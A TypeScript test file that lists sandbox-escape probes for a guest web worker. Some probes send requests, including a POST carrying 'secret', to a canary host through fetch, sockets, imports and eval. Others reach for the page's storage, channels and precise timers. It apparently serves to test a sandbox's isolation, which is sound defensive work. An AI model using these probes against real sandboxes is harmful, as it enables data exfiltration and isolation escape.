// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code in these strings has templates of its own
import { type Attack, leaves, reaches } from './attack.ts'

/**
 * In a guest's web worker that is somebody else's from its first line on: no scope was emptied, so all that a worker has is
 * there, and only the frame's origin and policy stand in the way.
 */
const FETCHES = "fetch('${canary.http}/nested', { mode: 'no-cors' })"
const blobUrl = (text: string): string => `URL.createObjectURL(new Blob([\`${text}\`], { type: 'text/javascript' }))`

export const WORKER_ATTACKS: readonly Attack[] = [
  leaves('fetch', "await fetch(canary.http + '/fetch')"),
  leaves(
    'a request that hides its answer',
    "await fetch(canary.http + '/post', { method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true })",
  ),
  leaves(
    'XMLHttpRequest',
    "const request = new XMLHttpRequest(); request.open('GET', canary.http + '/xhr', false); request.send()",
  ),
  leaves('WebSocket', "new WebSocket(canary.ws + '/ws')"),
  leaves('a stream of WebSocket', "await new WebSocketStream(canary.ws + '/wss').opened", false),
  leaves('EventSource', "new EventSource(canary.http + '/events')"),
  leaves('WebTransport', "new WebTransport(canary.http.replace('http:', 'https:') + '/transport')"),
  leaves('importScripts', "importScripts(canary.http + '/scripts')"),
  leaves('import()', "await import(canary.http + '/import')"),
  leaves('a font', "await new FontFace('x', `url(${canary.http}/font)`).load()"),
  leaves('a worker in the worker, from there', "new Worker(canary.http + '/worker')", false),
  leaves('a worker in the worker, which fetches', `new Worker(${blobUrl(FETCHES)})`),
  leaves('code made from text', `await Function('return ' + JSON.stringify(${JSON.stringify(FETCHES)}))`, false),
  leaves('code made from text, by eval', "await (0, eval)(`fetch('${canary.http}/eval')`)"),
  leaves(
    'code made from text, by the constructor of async functions',
    "await (async () => {}).constructor(`await fetch('${canary.http}/constructor')`)()",
  ),
  leaves('code made from text, by a timer', "setTimeout(`fetch('${canary.http}/timer')`)"),
  reaches('code made from text at all', "Function('return this')()"),
  reaches('importing its own text', `await import(${blobUrl('export const x = 1')})`),
  reaches('loading its own text', `importScripts(${blobUrl('self.loaded = 1')})`),
  reaches(
    'the database of the page',
    "await new Promise((resolve, reject) => { const asked = indexedDB.open('loot'); asked.onsuccess = resolve; asked.onerror = reject })",
  ),
  reaches('the caches of the page', "await caches.open('loot')"),
  reaches('the files of the page', 'await navigator.storage.getDirectory()'),
  reaches('the locks of the page', "await navigator.locks.request('loot', () => 1)"),
  reaches(
    'a channel to everything of the page’s origin',
    "const channel = new BroadcastChannel('page'); channel.postMessage('is anybody there?'); await new Promise((resolve, reject) => { channel.onmessage = resolve; setTimeout(reject, 500, new Error('silence')) })",
  ),
  reaches('the page’s origin', "if (origin === 'null') throw new Error('opaque')"),
  reaches(
    'memory shared between two threads, which is a clock',
    `const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })
     const second = new Worker(${blobUrl('onmessage = ({ data }) => postMessage(data instanceof SharedArrayBuffer)')})
     await new Promise((resolve, reject) => {
       second.onmessage = ({ data }) => (data ? resolve() : reject(new Error('a copy')))
       second.onmessageerror = second.onerror = reject
       setTimeout(reject, 500, new Error('silence'))
       second.postMessage(buffer)
     })`,
    false,
  ),
  reaches('SharedArrayBuffer by its name', 'new SharedArrayBuffer(8)', false),
  reaches(
    'a clock that tells less than 5 microseconds apart',
    `let least = Infinity
     for (let i = 0; i < 200000; i++) { const from = performance.now(); const step = performance.now() - from; if (step > 0 && step < least) least = step }
     if (least >= 0.005) throw new Error('ticks of ' + least + ' ms')`,
    false,
  ),
]
